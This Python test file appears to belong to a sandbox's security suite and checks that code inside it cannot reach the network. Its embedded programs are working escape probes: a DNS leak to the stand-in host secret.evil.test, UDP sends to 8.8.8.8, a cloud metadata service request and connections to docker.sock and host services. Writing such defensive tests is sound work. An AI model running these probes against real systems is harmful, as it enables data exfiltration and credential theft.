"""NET: reach anything by network."""

from __future__ import annotations

import socket
from collections.abc import Callable
from typing import Any

from tests.attacks.attack import ANY, DENIED, DONE, Attack, Control, Outside
from tests.attacks.field import Field


def _arrived(field: Field, outside: Outside) -> None:
    """The listener heard of it."""
    assert field.contacts() >= 1


def _addresses(field: Field) -> Any:
    return field.addresses()


_TCP = """
def connect(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(2)
        one.connect((host, port))
for host, port in args["targets"]:
    attempt(f"{host}:{port}", connect, host, port, socket.AF_INET6 if ":" in host else socket.AF_INET)
    attempt(f"create_connection {host}:{port}", socket.create_connection, (host, port), 2)
"""

_UDP = """
def send(host, port):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"secret", (host, port))
for host, port in args["targets"]:
    attempt(f"{host}:{port}", send, host, port)
"""

_DNS = """
attempt("getaddrinfo", socket.getaddrinfo, "secret.evil.test", 80)
attempt("gethostbyname", socket.gethostbyname, "secret.evil.test")
attempt("resolv.conf", read, "/etc/resolv.conf")
attempt("nscd", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/nscd/socket"))
query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\\x06secret\\x04evil\\x04test\\0" + struct.pack(">2H", 1, 1)
def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(query, ("127.0.0.1", args["udp"]))
attempt("own query", ask)
"""

_UNIX = """
def connect(address, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_UNIX, kind) as one:
        one.connect(address)
        one.send(b"x")
def by_a_pair(address, kind):
    for one in socket.socketpair(socket.AF_UNIX, kind):
        one.sendto(b"x", address)
for address in args["paths"]:
    attempt(ascii(address), connect, address)
for address in args["logs"]:
    attempt(ascii(address) + " datagram", connect, address, socket.SOCK_DGRAM)
    attempt(ascii(address) + " by a socket pair", by_a_pair, address, socket.SOCK_DGRAM)
"""


def _unix(*names: str) -> Callable[[Field], Any]:
    def args(field: Field) -> Any:
        known = field.addresses()
        listed = [
            "/var/run/docker.sock",
            "/run/redis/redis.sock",
            "/run/systemd/private",
            "/run/dbus/system_bus_socket",
        ]
        streams = [known[name] for name in names if not name.endswith("log")]
        return {"paths": streams + listed, "logs": [known[name] for name in names if name.endswith("log")]}

    return args


def _unix_here(*names: str) -> Callable[[Field], Any]:
    def args(field: Field) -> Any:
        return {
            key: [one for one in value if one in field.addresses().values()]
            for key, value in _unix(*names)(field).items()
        }

    return args


_FASTOPEN = """
def send(kind, flags):
    with socket.socket(socket.AF_INET, kind) as one:
        one.settimeout(2)
        one.sendto(b"secret", flags, ("127.0.0.1", args["tcp"]))
attempt("fast open", send, socket.SOCK_STREAM, 0x20000000)  # MSG_FASTOPEN
pair = socket.socketpair()
attempt("through a socket pair", lambda: pair[0].sendto(b"x", 0x20000000, ("127.0.0.1", args["tcp"])))
"""

_OWN_SERVER = """
server = None
def listen():
    global server
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
attempt("listen", listen)
attempt("connect", lambda: socket.create_connection(server.getsockname(), 1))
"""

_LOCAL = """
def joined():
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.251") + bytes(4))
def broadcast():
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    one.sendto(b"x", ("255.255.255.255", 9))
def link_local():
    socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("fe80::1", 9, 0, 1))
def bound_to_device():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).setsockopt(socket.SOL_SOCKET, 25, b"lo\\0")
for act in (joined, broadcast, link_local, bound_to_device):
    attempt(act.__name__, act)
attempt("interfaces", socket.if_nameindex)
"""

_PROXY = """
import urllib.request
for name in ("HTTP_PROXY", "http_proxy", "https_proxy", "ALL_PROXY"):
    os.environ[name] = args["url"]
os.environ["NO_PROXY"] = "*"
def fetch(url, proxies):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
    try:
        opener.open(url, timeout=0.3)
    except TimeoutError:
        pass  # it had connected, and nobody answered
attempt("direct", fetch, args["url"], {})
attempt("proxy", fetch, "http://example.com/", {"http": args["url"]})
attempt("https proxy", fetch, "https://example.com/", {"https": args["url"]})
"""


def _own_address() -> str:
    """An address of this host that is not the loopback, if it has one; nothing is sent to find it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        try:
            one.connect(("192.0.2.1", 9))
            return str(one.getsockname()[0])
        except OSError:
            return "127.0.0.2"


NO_SOCKET = (*DENIED, "EAFNOSUPPORT")
"""The latter of IPv6, for which libraries ask when they are imported: it is answered, not counted."""

ROWS = (
    Attack(
        id="NET-01",
        title="connect by TCP",
        severity="C",
        program=_TCP,
        args=lambda field: {
            "targets": [
                ["127.0.0.1", field.tcp_port],
                ["1.1.1.1", 443],
                ["93.184.216.34", 80],
                [_own_address(), field.tcp_port],
            ]
        },
        outcomes={"*": DENIED},
        violations=("socket",),
        control=Control(args=lambda field: {"targets": [["127.0.0.1", field.tcp_port]]}, outcomes=DONE, check=_arrived),
    ),
    Attack(
        id="NET-02",
        title="send by UDP",
        severity="C",
        program=_UDP,
        args=lambda field: {"targets": [["127.0.0.1", field.udp_port], ["8.8.8.8", 53], ["::1", field.udp_port]]},
        outcomes={"*": NO_SOCKET},
        violations=("socket",),
        control=Control(args=lambda field: {"targets": [["127.0.0.1", field.udp_port]]}, outcomes=DONE, check=_arrived),
    ),
    Attack(
        id="NET-04",
        title="leak by DNS",
        severity="C",
        program=_DNS,
        args=_addresses,
        outcomes={
            "getaddrinfo": ("gaierror",),
            "gethostbyname": ("gaierror",),
            "resolv.conf": ("ENOENT",),
            "*": DENIED,
        },
        violations=("socket",),
        control=Control(outcomes={"own query": ("done",), "*": ANY}, check=_arrived, seconds=30),
    ),
    Attack(
        id="NET-05",
        title="connect to the services of the host",
        severity="C",
        program=_TCP,
        args=lambda field: {
            "targets": [
                ["127.0.0.1", field.tcp_port],
                ["127.0.0.1", 6379],
                ["127.0.0.1", 5432],
                ["::1", 6379],
                ["0.0.0.0", field.tcp_port],
                ["172.17.0.1", 6379],
                ["localhost", 6379],
                ["redis", 6379],
            ]
        },
        outcomes={
            "create_connection localhost:6379": ("gaierror", *DENIED),
            "create_connection redis:6379": ("gaierror",),
            "*": NO_SOCKET,
        },
        violations=("socket",),
        control=Control(
            args=lambda field: {"targets": [["127.0.0.1", field.tcp_port], ["0.0.0.0", field.tcp_port]]},
            outcomes=DONE,
            check=_arrived,
        ),
    ),
    Attack(
        id="NET-07",
        title="ask the metadata service",
        severity="C",
        program=_TCP,
        args=lambda _field: {
            "targets": [["169.254.169.254", 80], ["fd00:ec2::254", 80], ["metadata.google.internal", 80]]
        },
        outcomes={"create_connection metadata.google.internal:80": ("gaierror",), "*": NO_SOCKET},
        violations=("socket",),
        control=None,
        no_control="no such service is here; NET-01 is the proof that the program connects",
    ),
    Attack(
        id="NET-08",
        title="a server of its own",
        severity="L",
        program=_OWN_SERVER,
        outcomes={"listen": DENIED, "connect": ("AttributeError",)},
        control=Control(outcomes=DONE),
    ),
    Attack(
        id="NET-10",
        title="unix sockets with a path",
        severity="C",
        program=_UNIX,
        args=_unix("unix", "log"),
        outcomes={"*": (*DENIED, "ENOENT", "ECONNREFUSED")},
        violations=("socket",),
        control=Control(args=_unix_here("unix", "log"), outcomes=DONE, check=_arrived),
    ),
    Attack(
        id="NET-11",
        title="unix sockets with an abstract name",
        severity="C",
        program=_UNIX,
        args=_unix("abstract", "abstract_log"),
        outcomes={"*": (*DENIED, "ENOENT", "ECONNREFUSED")},
        violations=("socket",),
        control=Control(args=_unix_here("abstract", "abstract_log"), outcomes=DONE, check=_arrived),
    ),
    Attack(
        id="NET-13",
        title="link-local, multicast, broadcast, devices",
        severity="M",
        program=_LOCAL,
        outcomes={"*": NO_SOCKET},
        violations=("socket",),
        control=Control(outcomes={"interfaces": ("done",), "*": ANY}),
    ),
    Attack(
        id="NET-14",
        title="connect without connect",
        severity="H",
        program=_FASTOPEN,
        args=_addresses,
        outcomes={
            "fast open": DENIED,
            "through a socket pair": ("TypeError", "EOPNOTSUPP", "ENOTSUP", "EINVAL", "EISCONN"),
        },
        control=Control(outcomes={"fast open": ("done", "EINPROGRESS"), "*": ANY}, check=_arrived),
    ),
    Attack(
        id="NET-19",
        title="proxies from the environment",
        severity="H",
        program=_PROXY,
        args=lambda field: {"url": f"http://127.0.0.1:{field.tcp_port}"},
        outcomes={"*": ("URLError", "EPERM")},
        violations=("socket",),
        control=Control(outcomes={"https proxy": ANY, "*": ("done", "URLError")}, check=_arrived),
    ),
)
